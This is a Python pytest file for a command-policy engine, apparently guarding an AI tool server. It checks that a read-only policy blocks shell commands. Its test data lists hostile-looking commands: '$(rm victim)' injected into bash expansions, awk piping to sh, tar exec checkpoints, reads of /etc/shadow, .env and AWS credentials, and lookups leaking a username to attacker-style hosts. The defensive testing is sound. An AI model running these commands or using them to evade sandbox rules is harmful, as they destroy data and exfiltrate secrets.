"""P2: under the policy that only looks, nothing writes, runs, connects or reads a credential, by whatever word."""

import pytest

from execkit_mcp.model import Verdict
from execkit_mcp.policy import Context, judge
from execkit_mcp.runtime.policies import load_policy

pytestmark = pytest.mark.promise("P2")

HERE = Context(cwd="/home/dev/project", home="/home/dev", workspace="/home/dev/project")


@pytest.fixture(scope="module")
def read_only():
    return load_policy("read-only", workspace=HERE.workspace)


# Every place of the grammar where bash runs a command of its own while it makes a word.
PLACES = [
    "echo {}",
    'echo "{}"',
    "echo a{}b",
    "echo ${{x:-{}}}",
    'echo "${{x:-{}}}"',
    "echo ${{x:+{}}}",
    "echo ${{x:?{}}}",
    "echo ${{x#{}}}",
    "echo ${{x%%{}}}",
    "echo ${{x/{}}}",
    "echo ${{x/a/{}}}",
    'echo "${{x/a/{}}}"',
    "echo ${{x//a/b{}c}}",
    "echo ${{x/#a/{}}}",
    "echo ${{x/%a/${{y/b/{}}}}}",
    "x={}",
    "x={} ls",
    "x=${{y/a/{}}} ls",
    "ls > {}",
    "ls < ${{x/a/{}}}",
    "cat <<< {}",
    "cat <<E\n{}\nE",
    "cat <<E\n${{x/a/{}}}\nE",
    "for i in {}; do ls; done",
    "for i in ${{x/a/{}}}; do ls; done",
    "case {} in a) ls;; esac",
    "case a in {}) ls;; esac",
    "case ${{x/a/{}}} in a) ls;; esac",
    "[[ -n {} ]]",
    "[[ a == {} ]]",
    "[[ -n ${{x/a/{}}} ]]",
    "cat <(echo {})",
    "echo $(echo {})",
    "if {}; then ls; fi",
    "while {}; do ls; done",
    "( {} )",
    "! {}",
]


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("run", ["$(rm victim)", "`rm victim`", "$(echo $(rm victim))"])
def test_a_command_is_judged_wherever_bash_would_run_it(read_only, place, run):
    decision = judge(place.format(run), read_only, HERE)
    assert decision.verdict is Verdict.DENY


ATTACKS = [
    "sqlite3 -readonly -append new.db 'create table t(a)'",
    "sqlite3 -readonly --append new.db 'create table t(a)'",
    "sqlite3 -readonly -zip new.zip 'insert into zip(name, data) values(1, 2)'",
    "sqlite3 -readonly -safe -vfs unix-none x.db 'select 1'",
    # a division is not a regular expression that hides what follows
    """awk 'BEGIN { x = 1 / 2; print "id" | "sh"; y = 3 / 4 }'""",
    """awk 'BEGIN { x = .5 / 2; print "id" > "out"; y = 3 / 4 }'""",
    """awk '{ x = \u03c0 / 2; print "id" | "sh"; y = 1 / 2 }'""",
    """awk '{ x = $1 / 2; system("id"); y = 3 / 4 }'""",
    # names that make, words that change
    "git branch -v made",
    "git branch -vv made",
    "git config edit",
    "git config unset user.name",
    "git symbolic-ref HEAD refs/heads/other",
    "git symbolic-ref -d HEAD",
    "ip link s eth0 down",
    "ip l s eth0 down",
    "tree -R -H . -L 1",
    "zstdcat --rm x.zst",
    "kubectl get pods --profile=cpu",
    "man -u",
    "tar -xOf a.tar --backup",
    "tar -tMf a.tar",
    "tar -tf a.tar -T names",
    "tar -tf a.tar --checkpoint=1 --checkpoint-action=exec=id",
    "tar -xf a.tar",
    "unzip a.zip",
    "unzip -l -d out a.zip",
    "gzip notes.txt",
    "yq -i .a=1 f.yaml",
    "yq 'load(\"/etc/shadow\")' f.yaml",
    "swapon -a",
    "curl --version https://example.com",
    "rm --help x",
    "cp -v a b",
    "python3 -v -c 'import os'",
    # what the policy forces into the environment stays there
    "env -i git log",
    "env -u GIT_CONFIG_COUNT git status",
    "env -u PATH ls",
    "env --unset=GIT_PAGER git log",
    "env --ignore-environment git log",
    "ls | xargs --process-slot-var=LD_PRELOAD echo",
    "git -p log",
    # elsewhere
    "git remote show origin",
    "getent hosts secret.example.com",
    "getent ahosts $(id -un).example.com",
    "getent -s a/b passwd",
    "gh pr list -R evil.example.com/o/r",
    "gh pr view https://evil.example.com/o/r/pull/1",
    "gh repo view evil.example.com/o/r",
    "lspci -q",
    "systemd-analyze --generators verify x",
    # credentials, by a way around their name
    "git show HEAD:.env",
    "git show HEAD:sub/.env.local",
    "git cat-file -p HEAD:server.pem",
    "git blame .env",
    "git log -p -- .env",
    "git grep '' -- .env",
    "git -C sub diff .env",
    "git diff HEAD -- ':(top).env'",
    "git -C /home/dev log -p -- .aws/credentials",
    "ps -eo pid,environ",
    "ps --format=environ -e",
    "ps -Oenviron",
    "ps auxe",
    "ps axo pid,environ",
    "strings @/etc/shadow",
    "nm @/etc/shadow",
    """jq -n 'import "config" as $d {search:"~/.docker"}; $d'""",
    """jq -n 'include "x" {search:"/tmp"}; y'""",
    """jq -n 'import # a comment\n"config" as $d {search:"~/.docker"}; $d'""",
    "diff -N ~/.docker empty",
    "diff -N ~/.aws empty",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_read_only_does_not_allow_it(read_only, text):
    assert judge(text, read_only, HERE).verdict is Verdict.DENY


# What people look with, and what a policy that only looks must not stand in the way of.
HONEST = [
    "unzip -l x.zip",
    "tar tzf x.tgz",
    "tar -xOf x.tar README.md | head",
    "gzip -l x.gz",
    "rm --help",
    "git push --help",
    "python3 -V",
    "npm --version",
    "curl --version",
    "gcc --version",
    "docker --version",
    "helm version",
    "apt list --installed",
    "swapon --show",
    "lsb_release -a",
    "openssl x509 -in cert.crt -noout -dates",
    "pip3 list",
    "diff <(sort a.txt) <(sort b.txt)",
    "comm -12 <(sort a.txt) <(sort b.txt)",
    "yq '.services | keys' docker-compose.yml",
    "yq eval .a f.yaml",
    "jq .include tsconfig.json",
    """jq '.["include"]' tsconfig.json""",
    "git branch -vv",
    "git branch --list 'feature/*'",
    "git symbolic-ref --short HEAD",
    "git bisect log",
    "git config list",
    "git config user.name",
    "git log --oneline -- src/app.py",
    "git show HEAD:src/app.py",
    "git diff v1.2..v1.3 -- src",
    "git blame src/app.py",
    "ps axo user,pid,cmd --sort=-rss",
    "ps -eo pid,comm,etime",
    "ip a s",
    "ip -br link show",
    "env FORCE_COLOR=1 git status",
    "env | sort",
    "gh pr view 12",
    "gh pr list -R example/project",
    "awk '{ s += $2 / NR } END { print s / 2, .5 / 3 }' f",
    "diff -ru src lib",
]


@pytest.mark.parametrize("text", HONEST)
def test_read_only_allows_looking(read_only, text):
    decision = judge(text, read_only, HERE)
    assert decision.verdict is Verdict.ALLOW, decision.message


def test_a_pipe_beside_other_text_is_not_a_pipe(read_only):
    assert judge('cat <(ls)"$x"', read_only, HERE).verdict is Verdict.DENY


def test_commands_times_folders_of_find_do_not_multiply_without_end(read_only):
    decision = judge("find " + "a " * 2000 + "-exec ls {} ';' " * 2000, read_only, HERE)
    assert decision.verdict is Verdict.DENY
    assert judge("find a b c -exec ls -d {} +", read_only, HERE).verdict is Verdict.ALLOW
